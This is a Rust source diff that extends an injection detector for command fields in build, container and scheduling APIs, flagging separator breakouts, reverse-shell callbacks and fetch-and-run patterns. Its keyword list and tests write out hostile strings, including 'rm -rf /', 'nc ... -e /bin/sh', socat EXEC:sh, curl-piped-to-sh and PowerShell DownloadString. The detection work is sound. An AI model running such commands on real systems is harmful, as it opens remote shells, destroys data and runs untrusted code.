@@ -1,9 +1,9 @@
 //! Where a command is meant to be: what APIs of builds, containers and schedules take.
 
 use super::Part;
-use crate::decode::Value;
+use crate::decode::{percent, Value};
 use memchr::memmem;
-use std::net::Ipv4Addr;
+use std::net::{Ipv4Addr, Ipv6Addr};
 
 /// Names under which APIs of builds, containers and schedules take commands.
 const TAKING: [&[u8]; 20] = [
@@ -95,10 +95,44 @@ pub fn takes_commands(value: &Value<'_>) -> bool {
         let name = folder.unwrap_or_default();
         json && !name.is_empty() && name.iter().all(u8::is_ascii_alphanumeric)
     };
-    // What starts with a separator goes on with what stands before it.
-    let breaks_out = matches!(text, [b';' | b'|' | b'&', ..]);
-    let meant = !breaks_out && (script() || shell() || named());
-    meant && !spies(text) && !(runs_what_it_fetches(text) && fetches_by_number(text))
+    let attacks = || {
+        breaks_out(text)
+            || spies(text)
+            || calls_back(text)
+            || runs_what_it_fetches(text) && fetches_by_number(text)
+    };
+    (script() || shell() || named()) && !attacks()
+}
+
+/// Tells a separator that goes on with what stands before it: first of all, behind the end of a string or a
+/// bracket, or behind a number, which is what a program is given and none itself.
+fn breaks_out(text: &[u8]) -> bool {
+    let number = |b: &u8| b.is_ascii_digit() || matches!(b, b'.' | b':');
+    let closes = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'\'' | b'"' | b')' | b'}' | b'`');
+    let given = text.iter().take_while(|b| number(b)).count();
+    let mut behind = text[given..].iter().skip_while(|b| closes(b));
+    matches!(behind.next(), Some(b';' | b'|' | b'&'))
+}
+
+/// What separates commands.
+fn separates(byte: &u8) -> bool {
+    matches!(byte, b';' | b'|' | b'&' | b'\n')
+}
+
+fn program(word: &[u8]) -> &[u8] {
+    word.rsplit(|b| *b == b'/').next().unwrap_or_default()
+}
+
+/// Tells a program that hands on bytes and is given a machine of the internet by its number: `nc 192.0.2.1 80`.
+/// Whether somebody listens is asked with `-z`.
+fn calls_back(text: &[u8]) -> bool {
+    text.split(separates).any(|command| {
+        let mut words = command.split(u8::is_ascii_whitespace);
+        let asks = |word: &[u8]| word.starts_with(b"-") && word.contains(&b'z');
+        words.any(|word| matches!(program(word), b"nc" | b"netcat" | b"telnet" | b"socat"))
+            && !words.clone().any(asks)
+            && words.any(|word| word.split(|b| *b == b':').any(is_public))
+    })
 }
 
 /// Tells the name of a document that is a manifest.
@@ -107,9 +141,29 @@ fn is_manifest(name: &[u8]) -> bool {
     matches!(last, b"manifest" | b"package" | b"config")
 }
 
-/// Tells a text that keeps what it fetches, or hands it on.
+/// Tells a text that keeps what it fetches, or hands it on, also to a shell that takes it as an argument or
+/// for a file.
 fn runs_what_it_fetches(text: &[u8]) -> bool {
-    const KEEPING: [&[u8]; 5] = [b"|", b"wget", b" -o", b" -O", b"chmod"];
+    const KEEPING: [&[u8]; 18] = [
+        b"|",
+        b"wget",
+        b" -o",
+        b" -O",
+        b"chmod",
+        b"tftp",
+        b"ftpget",
+        b"<(",
+        b"-c $(",
+        b"-c \"$(",
+        b"-c `",
+        b"-c \"`",
+        b"eval ",
+        b"IEX",
+        b"iex",
+        b"DownloadString",
+        b"DownloadFile",
+        b"-urlcache",
+    ];
     KEEPING
         .iter()
         .any(|word| memmem::find(text, word).is_some())
@@ -118,21 +172,44 @@ fn runs_what_it_fetches(text: &[u8]) -> bool {
 /// Tells a machine of the internet by its number, in a link or as a fetching program is given it without a
 /// scheme: what builds fetch has a name, or stands within their own network.
 fn fetches_by_number(text: &[u8]) -> bool {
-    let linked = || memmem::find_iter(text, b"://").any(|at| is_public(&text[at + 3..]));
-    let separates = |b: &u8| matches!(b, b';' | b'|' | b'&' | b'\n');
+    let linked = || memmem::find_iter(text, b"://").any(|at| links_public(&text[at + 3..]));
     let fetches = |command: &[u8]| {
-        let mut words = command.split(u8::is_ascii_whitespace);
-        words.any(|word| matches!(word.rsplit(|b| *b == b'/').next(), Some(b"curl" | b"wget")))
-            && words.any(is_public)
+        let fetching = |word| {
+            matches!(
+                program(word),
+                b"aria2c" | b"curl" | b"fetch" | b"ftpget" | b"tftp" | b"wget"
+            )
+        };
+        // Also within what is substituted: `<(curl`, `"$(curl`.
+        let mut words = command.split(|b| b.is_ascii_whitespace() || b"(`'\"".contains(b));
+        words.any(fetching) && words.any(is_public)
     };
     linked() || text.split(separates).any(fetches)
+}
+
+/// Tells such a machine in a link, from behind its scheme on, also behind who logs in there.
+fn links_public(link: &[u8]) -> bool {
+    let ends = |b: &u8| b.is_ascii_whitespace() || b"/?#'\"|;".contains(b);
+    let authority = link.split(ends).next().unwrap_or_default();
+    let host = authority.rsplit(|b| *b == b'@').next().unwrap_or_default();
+    let Some(inside) = host.strip_prefix(b"[") else {
+        return is_public(host);
+    };
+    let inside = inside.split(|b| *b == b']').next().unwrap_or_default();
+    let address = std::str::from_utf8(inside).unwrap_or_default().parse();
+    // Of the internet are those in 2000::/3. Source: IANA's registry of address space of IPv6.
+    address.is_ok_and(|address: Ipv6Addr| address.segments()[0] >> 13 == 1)
 }
 
 /// Tells an address of the internet at the start of a text.
 fn is_public(text: &[u8]) -> bool {
     let part = |b: &&u8| b.is_ascii_digit() || **b == b'.';
     let host = &text[..text.iter().take_while(part).count()];
-    let address = std::str::from_utf8(host).unwrap_or_default().parse();
+    let code = text.strip_prefix(b"0x").and_then(|code| code.get(..8));
+    let address = match code.and_then(percent::hex) {
+        Some(code) => Ok(Ipv4Addr::from(code)),
+        None => std::str::from_utf8(host).unwrap_or_default().parse(),
+    };
     address.is_ok_and(|address: Ipv4Addr| {
         // Those that carriers and clouds share, 100.64.0.0/10. Source: RFC 6598.
         let [first, second, ..] = address.octets();
@@ -195,6 +272,38 @@ mod tests {
     }
 
     #[test]
+    fn what_goes_on_with_an_argument_is_no_command() {
+        for (text, want) in [
+            ("';id;'", true),
+            ("\";curl http://a.example/m|sh", true),
+            ("') ; rm -rf /", true),
+            ("8.8.8.8; cat /etc/hosts", true),
+            ("10.0.0.7:80 && id", true),
+            ("1|id", true),
+            ("echo hello; sleep 60", false),
+            ("'/opt/my app/run'; echo done", false),
+            ("(cd a && make); make install", false),
+            ("7z x a.7z && make", false),
+        ] {
+            assert_eq!(breaks_out(text.as_bytes()), want, "{text}");
+        }
+    }
+
+    #[test]
+    fn calling_back_is_told_from_waiting() {
+        for (text, want) in [
+            ("nc 192.0.2.1 4444 -e /bin/sh", true),
+            ("x; telnet 192.0.2.1 80 | sh", true),
+            ("socat TCP:192.0.2.1:4444 EXEC:sh", true),
+            ("until nc -vz 192.0.2.1 5432; do sleep 1; done", false),
+            ("nc 10.0.0.7 80 < a", false),
+            ("telnet db 5432", false),
+        ] {
+            assert_eq!(calls_back(text.as_bytes()), want, "{text}");
+        }
+    }
+
+    #[test]
     fn what_is_fetched_by_number_is_not_run() {
         for (text, want) in [
             ("curl http://192.0.2.1/m | sh", false),
@@ -207,6 +316,21 @@ mod tests {
             ("pip install a==1.2.3.4 | tee log", true),
             ("curl --retry 3 http://203.0.113.9:8080/health", true),
             ("curl http://100.64.1.2/a | jq .", true),
+            ("curl http://a:b@192.0.2.1/m | sh", false),
+            ("curl http://[2001:db8::1]/m | sh", false),
+            ("curl -s 0xc0000201/m | sh", false),
+            ("curl http://[fd00::1]/a | jq .", true),
+            ("bash <(curl -s 192.0.2.1/m)", false),
+            ("sh -c \"$(curl -fsSL http://192.0.2.1/m)\"", false),
+            ("eval $(curl -s http://192.0.2.1/m)", false),
+            ("tftp -g -r m 192.0.2.1; sh m", false),
+            (
+                "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/m')",
+                false,
+            ),
+            ("bash <(curl -s https://get.a.example/m)", true),
+            ("sh -c \"$(curl -fsSL https://get.a.example)\"", true),
+            ("ip=$(curl -s http://192.0.2.1/ip); echo $ip", true),
         ] {
             let value = Value {
                 part: Part::Json,
